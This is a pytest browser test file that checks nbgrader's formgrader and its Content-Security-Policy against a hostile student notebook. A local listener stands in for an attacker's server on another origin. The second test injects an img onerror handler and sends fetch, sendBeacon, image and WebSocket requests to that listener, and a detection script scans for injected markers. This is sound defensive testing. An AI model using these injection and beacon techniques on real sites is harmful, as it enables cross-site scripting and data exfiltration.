"""A hostile submission in formgrader, in Chromium: no student script runs.

The course root holds assignment 01 and two submissions:

* ``mallory`` -- a correct solution plus the hostile cells of
  tests/autograder/test_sanitize.py (``<script>`` in an HTML output, ``<img
  onerror>`` in markdown, SVG with a script, a ``javascript:`` link, widget
  state, ...), every payload reporting to a local listener on another port
  (another origin) and to ``window.__xss``; graded by ``python -m autograder
  grade``, as a course is.
* ``eve`` -- the same notebook written straight into ``autograded/`` with its
  outputs and nothing neutralised (as a notebook autograded before
  autograder/sanitize.py existed, or by another tool): formgrader must
  neutralise it as it renders it; on that page, the server's
  Content-Security-Policy on its own must stop what a script would try.

The server is JupyterLab with nbgrader's formgrader, configured by the hub's
own ``deploy/jupyterhub/user-config/formgrader/`` (extensions and CSP), in the
course root.  Checked: the payloads do not run (marker, DOM, console, the
listener), the student's code is readable, the CSP is the deployed one, and
JupyterLab itself still starts under it without a CSP violation.
"""
from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest

from autograder import course

from ..autograder.test_sanitize import A01, hostile_submission, with_live_cells
from ..conftest import one_assignment_root
from . import jlab_ui
from .lab import REPO, free_port, jupyter_executable, stop_lab, wait_for_lab

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

FORMGRADER_CONFIG = REPO / "deploy" / "jupyterhub" / "user-config" / "formgrader"
SOLUTION_LINE = "def make_labels(mpg, target=30.0):"


class Beacon:
    """An HTTP listener on another origin that records every request made to it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def beacon():
    listener = Beacon()
    try:
        yield listener
    finally:
        listener.close()


@pytest.fixture(scope="module")
def course_root(tmp_path_factory, beacon):
    root = one_assignment_root(tmp_path_factory.mktemp("xss") / "course", A01)
    folder = root / "submitted" / "mallory" / A01
    folder.mkdir(parents=True)
    nbformat.write(hostile_submission(beacon.url), str(folder / f"{A01}.ipynb"))
    # eve: graded too (so the gradebook knows her), then her autograded notebook is
    # replaced by one with live content, as an unneutralised one would be
    shutil.copytree(folder, root / "submitted" / "eve" / A01)
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", A01, "--root", str(root), "--quiet"],
                          env=course.nbgrader_env(), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    eve = root / "autograded" / "eve" / A01 / f"{A01}.ipynb"
    nbformat.write(with_live_cells(nbformat.read(str(eve), as_version=4), beacon.url), str(eve))
    return root


@pytest.fixture(scope="module")
def formgrader(course_root, tmp_path_factory, artifacts):
    """JupyterLab + formgrader in the course root, with the hub's formgrader config."""
    state = tmp_path_factory.mktemp("formgrader-state")
    for sub in ("config", "runtime", "lab-settings", "lab-workspaces"):
        (state / sub).mkdir()
    env = {**os.environ, "JUPYTER_CONFIG_DIR": str(state / "config"), "JUPYTER_RUNTIME_DIR": str(state / "runtime"),
           "JUPYTERLAB_SETTINGS_DIR": str(state / "lab-settings"),
           "JUPYTERLAB_WORKSPACES_DIR": str(state / "lab-workspaces"),
           "JUPYTER_CONFIG_PATH": str(FORMGRADER_CONFIG), "PATH": course.nbgrader_env()["PATH"]}
    env.pop("NBGRADER_EXECUTION", None)
    port, token = free_port(), secrets.token_hex(24)
    log = artifacts / "formgrader.log"
    args = [jupyter_executable(), "lab", "--no-browser", "--ip=127.0.0.1", f"--port={port}", "--port-retries=0",
            f"--ServerApp.token={token}", f"--ServerApp.root_dir={course_root}",
            "--LabApp.extension_manager=readonly"]
    if os.geteuid() == 0:
        args.append("--allow-root")
    with open(log, "wb") as out:
        proc = subprocess.Popen(args, cwd=course_root, env=env, stdout=out, stderr=subprocess.STDOUT,
                                stdin=subprocess.DEVNULL, start_new_session=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        wait_for_lab(url, token, proc, log=log)
        yield url, token
    finally:
        stop_lab(proc)


def submission_id(root: Path, student: str) -> str:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        return gb.find_submission_notebook(A01, A01, student).id


def open_page(browser, url: str | None = None):
    """A new tab (at ``url``) that records console messages and every request it makes."""
    page = browser.new_page()
    page.console_log, page.requests = [], []
    page.on("console", lambda m: page.console_log.append(f"{m.type}: {m.text} (at {m.location.get('url', '')})"))
    page.on("pageerror", lambda e: page.console_log.append(f"pageerror: {e}"))
    page.on("request", lambda r: page.requests.append(r.url))
    response = page.goto(url, wait_until="load") if url else None
    return page, response


RAN = """() => ({
    markers: window.__xss || [],
    scripts: [...document.scripts].filter(s => s.text.includes('PWN-')).length,
    handlers: [...document.querySelectorAll('*')].filter(el => [...el.attributes].some(
        a => a.name.startsWith('on') && a.value.includes('PWN-'))).length,
    jslinks: [...document.querySelectorAll('a[href], iframe[src]')].filter(
        el => /^\\s*javascript:/i.test(el.getAttribute('href') || el.getAttribute('src') || '')).length,
    text: document.body.innerText,
})"""


def settle(page, seconds: float = 3.0):
    """Let image errors, MathJax and any delayed script happen."""
    page.wait_for_load_state("networkidle", timeout=30_000)
    page.wait_for_timeout(seconds * 1000)


def test_a_hostile_submission_does_not_run_in_formgrader(browser, formgrader, course_root, beacon, artifacts):
    url, token = formgrader
    page, response = open_page(browser, f"{url}formgrader/submissions/{submission_id(course_root, 'mallory')}/"
                                        f"?token={token}")
    try:
        assert response.status == 200
        settle(page)
        # the links a grader may click: a javascript: link would run now
        for link in page.query_selector_all("a[href^='javascript']"):
            link.click()
        page.screenshot(path=str(artifacts / "formgrader-hostile-submission.png"), full_page=True)
        seen = page.evaluate(RAN)
        assert seen["markers"] == [] and seen["scripts"] == 0 and seen["handlers"] == 0 and seen["jslinks"] == 0, seen
        assert beacon.hits == [], beacon.hits
        assert not [r for r in page.requests if "PWN-" in r], page.requests
        # the grader still reads the student's code and what it displayed
        assert SOLUTION_LINE in seen["text"] and "display(HTML(" in seen["text"]
        assert "<b>bold</b><script>" in seen["text"] and "My answer: the loss is convex." in seen["text"]
        assert not [m for m in page.console_log if "PWN-" in m], page.console_log
        # formgrader's own inline handlers are allowed by hash: the student's name can be shown
        page.click("span.glyphicon.name-hidden")
        page.wait_for_timeout(500)
        assert page.is_visible("a.name-shown"), page.console_log
        violations = [m for m in page.console_log if "Content Security Policy" in m]
        assert violations == [], violations
    finally:
        page.close()


def test_a_notebook_never_neutralised_and_the_csp_on_its_own(browser, formgrader, course_root, beacon, artifacts):
    """eve's notebook on disk still has live content: formgrader neutralises it as it
    renders it (the course's ``HTMLExporter.preprocessors``); and the deployed CSP on
    its own keeps event handlers from running and requests from reaching another origin."""
    url, token = formgrader
    before = len(beacon.hits)
    page, response = open_page(browser, f"{url}formgrader/submissions/{submission_id(course_root, 'eve')}/"
                                        f"?token={token}")
    try:
        assert response.status == 200
        csp = response.headers.get("content-security-policy", "")
        assert "frame-ancestors 'self'" in csp and "script-src-attr" in csp and "connect-src 'self'" in csp, csp
        settle(page)
        page.screenshot(path=str(artifacts / "formgrader-never-neutralised.png"), full_page=True)
        seen = page.evaluate(RAN)
        assert seen["markers"] == [] and seen["scripts"] == 0 and seen["handlers"] == 0 and seen["jslinks"] == 0, seen
        assert SOLUTION_LINE in seen["text"] and "<b>bold</b><script>" in seen["text"]
        assert beacon.hits[before:] == [], beacon.hits

        # the CSP alone: what an injected script would try next, from the page itself
        page.evaluate("""(b) => {
            document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__handler = 1">');
            new Image().src = b + '/img';
            fetch(b + '/fetch', {mode: 'no-cors'}).catch(() => {});
            navigator.sendBeacon(b + '/send', 'x');
            try { new WebSocket(b.replace('http', 'ws') + '/ws'); } catch (e) {}
        }""", beacon.url)
        page.wait_for_timeout(2000)
        assert page.evaluate("() => window.__handler") is None
        assert beacon.hits[before:] == [], beacon.hits
        refused = [m for m in page.console_log if "Content Security Policy" in m]
        assert any("inline event handler" in m for m in refused), page.console_log
        assert any("connect-src" in m for m in refused) and any("img-src" in m for m in refused), refused
    finally:
        page.close()


def test_jupyterlab_works_under_the_csp(browser, formgrader, course_root):
    """The service's own JupyterLab (where formgrader is opened) starts, opens a
    notebook and runs a cell under the deployed policy, with no CSP violation."""
    url, token = formgrader
    scratch = course_root / "scratch.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print(6 * 7)")],
                                            metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                                     "language": "python"}}), str(scratch))
    page, _ = open_page(browser)
    try:
        jlab_ui.open_notebook(page, url, token, "scratch.ipynb", cells=1)
        jlab_ui.run_all_cells(page, ["print(6 * 7)"])
        output = page.locator(f"{jlab_ui.CELLS} .jp-OutputArea-output").first
        output.wait_for(timeout=30_000)
        assert output.inner_text().strip() == "42", page.console_log   # the kernel's websocket works
        lab_csp = page.evaluate("async () => (await fetch('/lab')).headers.get('content-security-policy')")
        assert "script-src-attr" in lab_csp
        # the formgrader's own pages work too (its scripts and its name toggles)
        page.goto(f"{url}formgrader/manage_assignments", wait_until="load")
        page.wait_for_selector(f"text={A01}", timeout=30_000)
        violations = [m for m in page.console_log if "Content Security Policy" in m or "Refused to" in m]
        assert violations == [], violations
    finally:
        page.close()
        scratch.unlink(missing_ok=True)
